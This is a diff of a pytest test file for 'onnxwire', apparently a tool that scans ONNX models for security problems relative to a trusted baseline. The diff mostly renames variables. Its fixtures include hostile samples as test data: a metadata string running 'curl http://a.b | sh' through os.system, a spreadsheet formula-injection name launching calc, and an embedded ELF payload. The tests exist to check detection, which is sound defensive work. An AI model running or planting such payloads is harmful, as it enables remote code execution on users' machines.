@@ -13,8 +13,8 @@ from onnxwire.cli import main
 
 ROOT = Path(__file__).parents[2]
 DIGITS = ROOT / "examples" / "digits_cnn.onnx"
-CUSTOM = "opset_import { version: 17 } opset_import { domain: 'my.ops' version: 1 }"
-BODY = f"""
+OPSETS = "opset_import { version: 17 } opset_import { domain: 'my.ops' version: 1 }"
+GRAPH = f"""
     input {{ {value("x")} }} output {{ {value("y")} }}
     node {{ op_type: "Relu" name: "first" input: "x" output: "a" }}
     node {{ op_type: "PyOp" domain: "my.ops" name: "run" input: "a" output: "b"
@@ -23,7 +23,7 @@ BODY = f"""
 """
 
 
-def parse_model(graph=BODY, opset=CUSTOM, fields=""):
+def parse_model(graph=GRAPH, opset=OPSETS, fields=""):
     return onnxwire.from_text(model(graph, opset=opset, fields=fields))
 
 
@@ -34,28 +34,28 @@ def rules_of_new_problems(baseline, candidate, **options):
 
 
 def edit(original, edit_copy):
-    copied = onnxwire.ModelProto.FromString(original.SerializeToString())
-    edit_copy(copied)
-    return copied
+    copied_model = onnxwire.ModelProto.FromString(original.SerializeToString())
+    edit_copy(copied_model)
+    return copied_model
 
 
 def rename_all(original):
     """Return a copy in which every node and value has another name and nodes are stored in reverse."""
-    copied = onnxwire.ModelProto.FromString(original.SerializeToString())
-    values = {name for node in copied.graph.node for name in [*node.input, *node.output] if name}
-    onnxwire.rename_values(copied, {name: f"v{i}" for i, name in enumerate(sorted(values))})
-    for index, node in enumerate(copied.graph.node):
+    copied_model = onnxwire.ModelProto.FromString(original.SerializeToString())
+    values = {name for node in copied_model.graph.node for name in [*node.input, *node.output] if name}
+    onnxwire.rename_values(copied_model, {name: f"v{i}" for i, name in enumerate(sorted(values))})
+    for index, node in enumerate(copied_model.graph.node):
         node.name = f"node{index}"
-    return copied
+    return copied_model
 
 
 @pytest.mark.parametrize("make", [parse_model, lambda: onnxwire.load(DIGITS)], ids=["custom", "digits"])
 def test_a_copy_has_no_problem_of_the_trusted_model(make):
-    trusted = make()
-    known_problems = onnxwire.check(trusted, untrusted=True)
+    trusted_model = make()
+    known_problems = onnxwire.check(trusted_model, untrusted=True)
     assert known_problems
-    for candidate in (trusted, edit(trusted, lambda candidate: None), rename_all(trusted)):
-        problems = onnxwire.check(candidate, untrusted=True, baseline=trusted)
+    for candidate in (trusted_model, edit(trusted_model, lambda candidate: None), rename_all(trusted_model)):
+        problems = onnxwire.check(candidate, untrusted=True, baseline=trusted_model)
         assert problems == []
         assert problems.in_baseline == len(onnxwire.check(candidate, untrusted=True))
 
@@ -94,10 +94,10 @@ def test_a_problem_of_a_changed_part_is_reported(edit_copy):
 
 def test_a_problem_far_downstream_of_a_change_is_not_reported():
     nodes = "".join(f'node {{ op_type: "Relu" input: "c{i}" output: "c{i + 1}" }}' for i in range(5))
-    graph = BODY.replace('input: "x" output: "a"', 'input: "x" output: "c0"').replace('input: "a"', 'input: "c5"')
-    trusted = parse_model(graph + nodes)
-    candidate = edit(trusted, lambda candidate: candidate.graph.node[0].__setattr__("op_type", "Elu"))
-    assert "security-code-operator" not in rules_of_new_problems(trusted, candidate)
+    graph = GRAPH.replace('input: "x" output: "a"', 'input: "x" output: "c0"').replace('input: "a"', 'input: "c5"')
+    trusted_model = parse_model(graph + nodes)
+    candidate = edit(trusted_model, lambda candidate: candidate.graph.node[0].__setattr__("op_type", "Elu"))
+    assert "security-code-operator" not in rules_of_new_problems(trusted_model, candidate)
 
 
 def test_a_second_copy_of_a_known_attack_is_reported():
@@ -110,12 +110,12 @@ def test_a_second_copy_of_a_known_attack_is_reported():
 
 def test_texts_and_names_with_known_problems_are_compared_exactly():
     fields = "metadata_props { key: 'loader' value: 'import os; os.system(\"make\")' }"
-    trusted = parse_model(fields=fields)
-    assert rules_of_new_problems(trusted, rename_all(trusted)) == []
-    changed = edit(
-        trusted, lambda model: model.metadata_props[0].__setattr__("value", 'os.system("curl http://a.b | sh")')
+    trusted_model = parse_model(fields=fields)
+    assert rules_of_new_problems(trusted_model, rename_all(trusted_model)) == []
+    changed_model = edit(
+        trusted_model, lambda model: model.metadata_props[0].__setattr__("value", 'os.system("curl http://a.b | sh")')
     )
-    assert "security-payload-text" in rules_of_new_problems(trusted, changed)
+    assert "security-payload-text" in rules_of_new_problems(trusted_model, changed_model)
 
     named_model = edit(parse_model(), lambda model: model.graph.node[0].__setattr__("name", "=1+1"))
     changed_name = edit(parse_model(), lambda model: model.graph.node[0].__setattr__("name", "=cmd|' /C calc'!A0"))
@@ -124,24 +124,29 @@ def test_texts_and_names_with_known_problems_are_compared_exactly():
 
 
 def test_records_are_compared_by_their_bytes():
-    trusted = parse_model().SerializeToString() + bytes.fromhex("fa3e04") + b"abcd"
-    changed = trusted[:-4] + b"efgh"
-    assert rules_of_new_problems(onnxwire.ModelProto.FromString(trusted), onnxwire.ModelProto.FromString(trusted)) == []
+    trusted_bytes = parse_model().SerializeToString() + bytes.fromhex("fa3e04") + b"abcd"
+    changed_bytes = trusted_bytes[:-4] + b"efgh"
+    assert (
+        rules_of_new_problems(
+            onnxwire.ModelProto.FromString(trusted_bytes), onnxwire.ModelProto.FromString(trusted_bytes)
+        )
+        == []
+    )
     assert "security-wire-unknown-content" in rules_of_new_problems(
-        onnxwire.ModelProto.FromString(trusted), onnxwire.ModelProto.FromString(changed)
+        onnxwire.ModelProto.FromString(trusted_bytes), onnxwire.ModelProto.FromString(changed_bytes)
     )
 
 
 def test_payloads_of_any_size_are_compared():
     program = b"\x7fELF\2\1\1" + bytes(300_001)
-    graph = BODY + "initializer { name: 'w' data_type: 2 dims: 300008 }"
+    graph = GRAPH + "initializer { name: 'w' data_type: 2 dims: 300008 }"
 
     def with_payload(raw_data):
         return edit(parse_model(graph), lambda model: model.graph.initializer[0].__setattr__("raw_data", raw_data))
 
-    trusted = with_payload(program)
-    assert rules_of_new_problems(trusted, rename_all(trusted)) == []
-    assert "security-payload-tensor" in rules_of_new_problems(trusted, with_payload(program[:-1] + b"x"))
+    trusted_model = with_payload(program)
+    assert rules_of_new_problems(trusted_model, rename_all(trusted_model)) == []
+    assert "security-payload-tensor" in rules_of_new_problems(trusted_model, with_payload(program[:-1] + b"x"))
 
 
 def test_nested_graphs_and_functions_are_compared():
@@ -158,13 +163,13 @@ def test_nested_graphs_and_functions_are_compared():
     function = """functions { name: "f" domain: "my.ops" input: "x" output: "y" opset_import { version: 17 }
         opset_import { domain: "my.ops" version: 1 }
         node { op_type: "PyOp" domain: "my.ops" input: "x" output: "y" } }"""
-    trusted = parse_model(graph, fields=function)
-    assert onnxwire.check(trusted, untrusted=True, select="security-code-operator").counts()["error"] == 3
-    assert rules_of_new_problems(trusted, trusted) == []
+    trusted_model = parse_model(graph, fields=function)
+    assert onnxwire.check(trusted_model, untrusted=True, select="security-code-operator").counts()["error"] == 3
+    assert rules_of_new_problems(trusted_model, trusted_model) == []
     attack = edit(
-        trusted, lambda model: model.graph.node[0].attribute[1].g.node[0].attribute.add(name="m", type=3, s=b"os")
+        trusted_model, lambda model: model.graph.node[0].attribute[1].g.node[0].attribute.add(name="m", type=3, s=b"os")
     )
-    assert rules_of_new_problems(trusted, attack, select="security-code-operator") == ["security-code-operator"]
+    assert rules_of_new_problems(trusted_model, attack, select="security-code-operator") == ["security-code-operator"]
 
 
 def test_a_limit_applies_to_new_problems():
@@ -180,9 +185,9 @@ def test_a_limit_applies_to_new_problems():
 
 
 def test_rules_for_trusted_models_accept_a_baseline():
-    trusted = parse_model(BODY + 'node { op_type: "Relu" input: "x" output: "a" }')
-    assert onnxwire.check(trusted, select="error")
-    assert onnxwire.check(rename_all(trusted), select="error", baseline=trusted) == []
+    trusted_model = parse_model(GRAPH + 'node { op_type: "Relu" input: "x" output: "a" }')
+    assert onnxwire.check(trusted_model, select="error")
+    assert onnxwire.check(rename_all(trusted_model), select="error", baseline=trusted_model) == []
 
 
 @pytest.mark.parametrize("damaged_model", ["baseline", "source"])
